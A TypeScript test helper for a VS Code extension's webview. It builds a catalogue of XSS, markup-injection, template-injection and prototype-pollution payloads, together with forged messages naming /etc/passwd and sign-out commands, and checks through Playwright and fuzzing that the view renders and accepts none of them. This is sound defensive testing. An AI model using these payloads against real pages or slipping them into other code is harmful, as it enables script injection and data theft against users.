// A result of a hostile API, and what tells that a page has taken any of it for more than text.
import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Frame, Page } from 'playwright-core';
import { parseWebviewMessage } from '../../src/core/analysis/viewMessage.ts';

export interface Payload {
  readonly name: string;
  readonly text: string;
  /** It makes elements where a page takes it for HTML: the control plants these. */
  readonly isMarkup: boolean;
}

/** Each of them sets window.__pwned, or asks the hostile server for /pwned. */
export function hostilePayloads(origin: string): readonly Payload[] {
  const url = (name: string): string => `${origin}/pwned?n=${name}`;
  const run = 'window.__pwned=1';
  const markup: Readonly<Record<string, string>> = {
    script: `<script>${run};fetch('${url('script')}')</script>`,
    'img onerror': `<img src="${url('img')}" onerror="${run}">`,
    'svg onload': `<svg onload="${run}"><image href="${url('svg')}"/></svg>`,
    'end of a textarea': `</textarea><script src="${url('textarea')}">${run}</script>`,
    'iframe srcdoc': `<iframe srcdoc="<script>parent.__pwned=1</script>" src="${url('iframe')}"></iframe>`,
    'javascript: link': `<a href="javascript:${run}" id="link-1">open</a>`,
    'command: link': `<a href="command:workbench.action.terminal.new">[x](command:matter.signOut)</a>`,
    'vscode: link': '<a href="vscode://file/etc/passwd">open</a>',
    'style @import': `<style>@import url("${url('import')}");*{display:none}</style>`,
    'link stylesheet': `<link rel="stylesheet" href="${url('link')}">`,
    base: `<base href="${origin}/pwned/">`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${url('meta')}">`,
    'form action': `<form action="${url('form')}"><button formaction="${url('formaction')}">go</button></form>`,
    'CSS url()': `<p style="background:url(${url('css')})">x</p>`,
    'data: URI': `<object data="data:text/html,<script>top.__pwned=1</script>"></object>`,
    srcset: `<img srcset="${url('srcset')} 1x, ${url('srcset2')} 2x">`,
    'end of a title': `</title><script>${run}</script>`,
    'HTML comment': `<!--><img src=x onerror=${run}>-->`,
    CDATA: `<![CDATA[><img src=x onerror=${run}>]]>`,
    'name of a DOM property': '<img name="getElementById"><input id="__pwned" name="body">',
  };
  const plain: Readonly<Record<string, string>> = {
    'end of an attribute': `" onmouseover="${run}" autofocus onfocus='${run}' x="`,
    'template braces': `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
    'odd characters': `\u00c0\u00bcscript\u00c0\u00be \\u003cscript\\u003e \u0000<\u0000b \ufeff\u202egnp.exe\u2066\u200b`,
    '__proto__ keys': '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}',
  };
  const payloads = (texts: Readonly<Record<string, string>>, isMarkup: boolean): readonly Payload[] =>
    Object.entries(texts).map(([name, text]) => ({ name, text, isMarkup }));
  return [...payloads(markup, true), ...payloads(plain, false)];
}

/** The answer of a finished job: every payload in all texts of a metric, as the name of a field, and beside the metrics. */
export function hostileResult(payloads: readonly Payload[]): string {
  const basic = payloads.map(({ text }, at) => ({
    metric_id: text,
    metric_name: text,
    metric_unit: text,
    metric_type: text,
    metric_value: { raw: at + 1 },
    coverage: { weight: 0.5, entity_count: 1, [text]: text },
    [text]: text,
    ['__proto__']: { polluted: 'yes' },
  }));
  const all = payloads.map(({ text }) => text).join('\n');
  const beside = Object.fromEntries(payloads.map(({ text }) => [text, { [text]: text }]));
  return JSON.stringify({ created: all, external_id: all, portfolio: all, ...beside, analysis: { basic } });
}

// As text, since it runs in the page. Every element and attribute that the view does not make itself is told.
const inspection = String.raw`(() => {
  const found = [];
  const tags = new Set(('html head meta title link style body main h1 p dl dt dd div details summary button input label ' +
    'select option span aside svg g rect text tspan path line script header section h2 ul li nav').split(' '));
  const own = {
    script: (node) => node.id === '_vscodeApiScript' || /\/dist\/webview\/(?:result|review)\.js$/.test(node.src),
    style: (node) => node.id === '_defaultStyles',
    link: (node) => /\/dist\/webview\/style\.css$/.test(node.href),
    meta: (node) => node.hasAttribute('charset') || node.httpEquiv === 'Content-Security-Policy',
  };
  for (const node of document.querySelectorAll('*')) {
    const tag = node.localName;
    if (!tags.has(tag) || (own[tag] !== undefined && !own[tag](node))) found.push('element ' + tag);
    for (const { name, value } of node.attributes) {
      const loads = /^(href|xlink:href|src|srcset|srcdoc|action|formaction|data|background|ping|autofocus)$/.test(name);
      if (/^on/.test(name) || (loads && own[tag] === undefined)) found.push('attribute ' + name);
      if (name === 'style' && /url\(/.test(value)) found.push('style ' + value);
      if ((name === 'id' || name === 'name') && /^(getElementById|body|__pwned)$/.test(value)) found.push(name);
    }
  }
  if (window.__pwned !== undefined) found.push('window.__pwned');
  if ({}.polluted !== undefined || [].polluted !== undefined) found.push('Object.prototype');
  if (typeof document.getElementById !== 'function' || document.body.localName !== 'body') found.push('document');
  return found;
})()`;

/** What in the page was made by somebody else than the view; empty where all is well. */
export function intruders(frame: Frame | Page): Promise<readonly string[]> {
  return frame.evaluate<readonly string[]>(inspection);
}

/** The control: what is found where a page takes the text for HTML. In one step, since some of it leads away. */
export function plant(page: Page, text: string): Promise<readonly string[]> {
  return page.evaluate<readonly string[]>(`document.body.innerHTML = ${JSON.stringify(text)}; ${inspection}`);
}

/**
 * Before the pages load: keeps what the view's script gets from acquireVsCodeApi, which gives it once only. So a test can
 * post as a script in the view could, on the same channel.
 */
export const keepViewApi = `(() => {
  let acquire;
  Object.defineProperty(globalThis, 'acquireVsCodeApi', {
    configurable: true,
    get: () => acquire,
    set: (value) => { acquire = () => (globalThis.viewApi = value()); },
  });
})()`;

const addresses = ['/etc/passwd', 'file:///etc/passwd', 'http://127.0.0.1:1/', '../../x', 'vscode://file/x'];
const kinds = [
  ...[
    'open',
    'openExternal',
    'command',
    'executeCommand',
    'writeFile',
    'readFile',
    'delete',
    'fetch',
    'save',
    'result',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    'valueOf',
    'hasOwnProperty',
    'EXPORT',
    'export ',
    'ready\0',
    '',
    ' image',
  ],
];
const wrongFields: readonly object[] = [
  { kind: { toString: null, valueOf: null } },
  { kind: ['export'], format: 'csv' },
  ...['../../x', 'exe', 'CSV', 'json ', '', null, 1, ['csv', 'json'], {}].map((format) => ({ kind: 'export', format })),
  ...['<script>', ' <svg', '<SVG', '', null, 1, {}, ['x']].map((data) => ({ kind: 'image', format: 'svg', data })),
  ...['<svg>', 'x', 'iVBORw0KGgo"', 'iVBORw0KGgo===', null].map((data) => ({ kind: 'image', format: 'png', data })),
  ...['html', '../svg', null].map((format) => ({ kind: 'image', format, data: '<svg></svg>' })),
  ...[-1, 1.1, 1e308, '0.5', null, [], {}].map((tolerance) => ({ kind: 'tolerance', tolerance })),
];

/** Messages that are none of the view's, each of its own; `count` of them. */
export function forgedMessages(count: number): readonly unknown[] {
  const strange: readonly unknown[] = [null, 0, '', 'ready', [], [{ kind: 'ready' }], true, {}, { kind: 7 }];
  const crossed = kinds.flatMap((kind) =>
    addresses.flatMap((path) => [
      { kind, format: 'csv', data: '<svg>', path, uri: path, url: path, defaultUri: path, command: 'matter.signOut' },
      { type: kind, command: kind, args: [path] },
    ]),
  );
  return [...strange, ...wrongFields, ...crossed].slice(0, count);
}

const fieldsOf: Readonly<Record<string, readonly string[]>> = {
  ready: ['kind'],
  export: ['format', 'kind'],
  image: ['data', 'format', 'kind'],
  tolerance: ['kind', 'tolerance'],
};

/** 200 values, of which most name a kind. */
export function fuzzMessages(): void {
  let accepted = 0;
  const kind = fc.oneof(fc.constantFrom(...Object.keys(fieldsOf)), fc.string(), fc.anything());
  const format = fc.oneof(fc.constantFrom('csv', 'json', 'svg', 'png'), fc.anything());
  const data = fc.oneof(fc.constantFrom('<svg/>', 'iVBORw0KGgo='), fc.anything());
  const tolerance = fc.oneof(fc.double(), fc.anything());
  const message = fc.record({ kind, format, data, tolerance, path: fc.string(), command: fc.webUrl() });
  const check = (value: unknown): void => {
    const parsed = parseWebviewMessage(value);
    if (parsed === undefined) return;
    accepted++;
    assert.deepEqual(Object.keys(parsed).sort(), fieldsOf[parsed.kind]);
  };
  fc.assert(fc.property(fc.oneof({ weight: 5, arbitrary: message }, fc.jsonValue()), check), {
    numRuns: 200,
    seed: 13,
  });
  assert.ok(accepted > 0, 'none of the fuzzed messages reached a reader');
}
